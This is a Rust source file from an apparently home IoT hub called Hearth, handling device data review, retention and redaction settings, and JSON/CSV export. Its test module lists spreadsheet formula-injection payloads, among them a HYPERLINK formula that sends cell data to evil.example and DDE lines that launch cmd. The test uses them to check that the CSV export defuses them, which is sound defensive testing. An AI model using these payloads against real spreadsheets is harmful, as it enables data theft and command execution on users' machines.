//! The review (what devices send, from the ledger), privacy choices, and export.

use super::limits::{self, DURATION_CHARS, REDACTION_PATH_BYTES};
use super::{csv, now, parse_id};
use crate::api::types::{
    ApiError, DeviceExport, DeviceReview, Event, ExportedSample, HomeReview, PrivacySettings, RedactionRequest, RetentionRequest,
};
use crate::family::Caller;
use crate::hub::Hub;

impl Hub {
    /// What the device sent in the last `since_ms` milliseconds.
    pub fn review(&self, id: &str, since_ms: i64) -> Result<DeviceReview, ApiError> {
        let id = parse_id(id)?;
        let until = now();
        Ok(self.reader().device_review(&id, until - since_ms.max(0), until)?)
    }

    /// Every device's review in the last `since_ms` milliseconds, and what changed.
    pub fn home_review(&self, since_ms: i64) -> Result<HomeReview, ApiError> {
        let until = now();
        Ok(self.reader().home_review(until - since_ms.max(0), until)?)
    }

    pub fn privacy(&self, id: &str) -> Result<PrivacySettings, ApiError> {
        Ok(self.reader().privacy(&parse_id(id)?)?)
    }

    /// Sets how long a category of the device's data is kept; applies to what is on file at
    /// once (the device's values and samples are pruned right away), recorded in the audit.
    pub fn set_retention(&self, id: &str, request: &RetentionRequest, caller: &Caller) -> Result<PrivacySettings, ApiError> {
        let id = parse_id(id)?;
        let retention = limits::retention(request.retention)?;
        let mut store = self.store();
        let settings = store.set_retention(&id, request.category, retention, &caller.actor(), caller.origin, now())?;
        store.prune_device_ledger(&id, now())?;
        tracing::info!(%id, category = request.category.as_str(), retention = ?request.retention, origin = caller.origin, "retention changed");
        self.publish(Event::BrokerChanged { id });
        Ok(settings)
    }

    /// Adds or removes a field to redact from the device's messages, before they are stored or
    /// delivered to anyone; applies to the next message.
    pub fn set_redaction(&self, id: &str, request: &RedactionRequest, caller: &Caller) -> Result<PrivacySettings, ApiError> {
        let id = parse_id(id)?;
        let path = limits::token("path", &request.path, REDACTION_PATH_BYTES)?;
        if path.starts_with('.') || path.ends_with('.') || path.contains("..") {
            return Err(ApiError::bad_request(format!(
                "`{path}` is not a field path: name the field as the review shows it, like `Wifi.SSId` or `lat`"
            )));
        }
        let mut store = self.store();
        let settings = store.set_redaction(&id, path, request.redact, &caller.actor(), caller.origin, now())?;
        self.reload_policies(&store)?;
        if request.redact {
            // What the broker keeps of it was published before: it may hold the field. (Queued
            // messages are refused at delivery for the same reason; see the gate.)
            self.clear_retained(&self.gate().usernames_of(&id), None);
        }
        tracing::info!(%id, path, redact = request.redact, origin = caller.origin, "redaction changed");
        self.publish(Event::BrokerChanged { id });
        Ok(settings)
    }

    /// Everything Hearth holds about the device, in memory (the desktop window's export).
    pub fn export(&self, id: &str) -> Result<DeviceExport, ApiError> {
        let head = self.export_head(id)?;
        let mut messages = Vec::new();
        self.reader().export_messages(&head.device.device.id, |m| {
            messages.push(m);
            Ok(())
        })?;
        let ExportHead { exported_at, device, broker, privacy, review, samples } = head;
        Ok(DeviceExport { exported_at, device, broker, privacy, review, samples, messages })
    }

    /// The same as [`Hub::export`]'s JSON, written to `out` a message at a time: a device with
    /// millions of messages is exported without holding them all.
    pub fn export_json_to(&self, id: &str, out: &mut dyn FnMut(&[u8]) -> std::io::Result<()>) -> Result<(), ApiError> {
        let head = self.export_head(id)?;
        let head_json = serde_json::to_vec(&head).map_err(|e| ApiError::internal(format!("cannot write the export: {e}")))?;
        // The head is an object; the messages go in as its last member.
        out(&head_json[..head_json.len() - 1]).map_err(write_error)?;
        out(b",\"messages\":[").map_err(write_error)?;
        let mut first = true;
        self.reader().export_messages(&head.device.device.id, |m| {
            let line = serde_json::to_vec(&m).map_err(|e| hearth_store::StoreError::Corrupt(e.to_string()))?;
            let sep: &[u8] = if first { b"" } else { b"," };
            first = false;
            out(sep).and_then(|()| out(&line)).map_err(|e| hearth_store::StoreError::Interrupted(format!("the export was not taken: {e}")))
        })?;
        out(b"]}").map_err(write_error)
    }

    /// The device's messages as CSV (`at,topic,bytes,qos,decision,reason,categories`), written to
    /// `out` a row at a time.
    pub fn export_csv_to(&self, id: &str, out: &mut dyn FnMut(&[u8]) -> std::io::Result<()>) -> Result<(), ApiError> {
        let id = parse_id(id)?;
        let store = self.reader();
        store.device(&id)?;
        out(csv::row(&["at", "topic", "bytes", "qos", "decision", "reason", "categories"]).as_bytes()).map_err(write_error)?;
        store.export_messages(&id, |m| {
            let categories: Vec<&str> = m.categories.iter().map(|c| c.as_str()).collect();
            // Numbers are written by Hearth; every text cell goes through `csv::cell`, as the
            // topic is the device's own and the other texts may one day be.
            let line = csv::row(&[
                m.at.to_string(),
                csv::cell(&m.topic),
                m.bytes.to_string(),
                m.qos.to_string(),
                csv::cell(&m.decision),
                csv::cell(m.reason.as_deref().unwrap_or_default()),
                csv::cell(&categories.join(" ")),
            ]);
            out(line.as_bytes()).map_err(|e| hearth_store::StoreError::Interrupted(format!("the export was not taken: {e}")))
        })?;
        Ok(())
    }

    /// The CSV export as one string (the desktop window's).
    pub fn export_csv(&self, id: &str) -> Result<String, ApiError> {
        let mut csv = Vec::new();
        self.export_csv_to(id, &mut |chunk| {
            csv.extend_from_slice(chunk);
            Ok(())
        })?;
        String::from_utf8(csv).map_err(|e| ApiError::internal(format!("the export is not text: {e}")))
    }

    /// Everything but the messages.
    fn export_head(&self, id: &str) -> Result<ExportHead, ApiError> {
        let device = self.device(id)?;
        let broker = self.broker_view(id)?;
        let store = self.reader();
        let id = &device.device.id;
        let samples = store
            .export_samples(id)?
            .into_iter()
            .map(|s| match String::from_utf8(s.payload) {
                Ok(text) => ExportedSample { at: s.at, topic: s.topic, text: Some(text), hex: None },
                Err(e) => ExportedSample { at: s.at, topic: s.topic, text: None, hex: Some(hex::encode(e.as_bytes())) },
            })
            .collect();
        let until = now();
        Ok(ExportHead {
            exported_at: until,
            review: store.device_review(id, device.device.first_seen, until)?,
            privacy: store.privacy(id)?,
            broker,
            samples,
            device,
        })
    }
}

/// [`DeviceExport`] without its messages, in the same field order, for the streamed export.
#[derive(serde::Serialize)]
struct ExportHead {
    exported_at: i64,
    device: crate::api::types::DeviceDetail,
    broker: crate::api::types::BrokerView,
    privacy: PrivacySettings,
    review: DeviceReview,
    samples: Vec<ExportedSample>,
}

fn write_error(e: std::io::Error) -> ApiError {
    ApiError::internal(format!("the export could not be sent: {e}"))
}

/// A duration as people write it: `90m`, `24h`, `7d`, `4w` (at most ten years).
pub fn parse_duration(text: &str) -> Result<i64, ApiError> {
    let bad = || {
        ApiError::bad_request(format!(
            "`{}` is not a duration: write a number and a unit, like 90m, 24h, 7d or 4w",
            limits::quoted(text.trim())
        ))
    };
    let text = text.trim();
    if text.len() > DURATION_CHARS {
        return Err(bad());
    }
    let unit = text.chars().last().ok_or_else(bad)?;
    let n: i64 = text[..text.len() - unit.len_utf8()].parse().map_err(|_| bad())?;
    let ms = match unit {
        'm' => 60_000,
        'h' => 3_600_000,
        'd' => 86_400_000,
        'w' => 7 * 86_400_000,
        _ => return Err(bad()),
    };
    match n.checked_mul(ms) {
        Some(total) if n > 0 && total <= 3650 * 86_400_000 => Ok(total),
        _ => Err(bad()),
    }
}

#[cfg(test)]
mod tests {
    use crate::api::types::{Actor, Decision};

    /// A device names its topics itself: one that publishes on topics a spreadsheet would run
    /// as formulas gets them in the export as text, never as formulas.
    #[test]
    fn a_device_cannot_plant_formulas_in_the_csv_export() {
        let (hub, _dir) = crate::testing::hub();
        let id = crate::random::device_id();
        let evil = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
        ];
        {
            let mut store = hub.store();
            store.add_device(&id, "Evil plug", &Actor::owner(), "cli", 1).unwrap();
            let entries: Vec<_> = evil
                .iter()
                .enumerate()
                .map(|(i, topic)| hearth_store::LedgerEntry {
                    at: 1_000 + i as i64,
                    device_id: &id,
                    topic,
                    bytes: 2,
                    qos: 0,
                    decision: &Decision::Allow,
                    payload: Some(b"{}"),
                })
                .collect();
            store.record_messages(&entries).unwrap();
        }
        let csv = hub.export_csv(id.as_str()).unwrap();
        // Rows are split on the row ends Hearth writes (`\n` then the next timestamp), since a
        // quoted cell may hold a line break of its own.
        let rows: Vec<&str> = csv.split("\n1").skip(1).collect();
        assert_eq!(rows.len(), evil.len(), "{csv}");
        for (row, topic) in rows.iter().zip(evil) {
            let cell = row.split_once(',').map(|(_, rest)| rest).unwrap();
            let expected = format!("\"'{}\",", topic.replace('"', "\"\""));
            assert!(cell.starts_with(&expected), "the topic {topic:?} must be defused: {row:?}");
        }
    }

    #[test]
    fn durations_read_as_people_write_them() {
        assert_eq!(super::parse_duration("90m").unwrap(), 90 * 60_000);
        assert_eq!(super::parse_duration("7d").unwrap(), 7 * 86_400_000);
        assert_eq!(super::parse_duration("4w").unwrap(), 28 * 86_400_000);
        for bad in ["", "7", "d", "0d", "-1d", "7y", "99999999d", "1.5h"] {
            assert!(super::parse_duration(bad).is_err(), "{bad}");
        }
    }
}
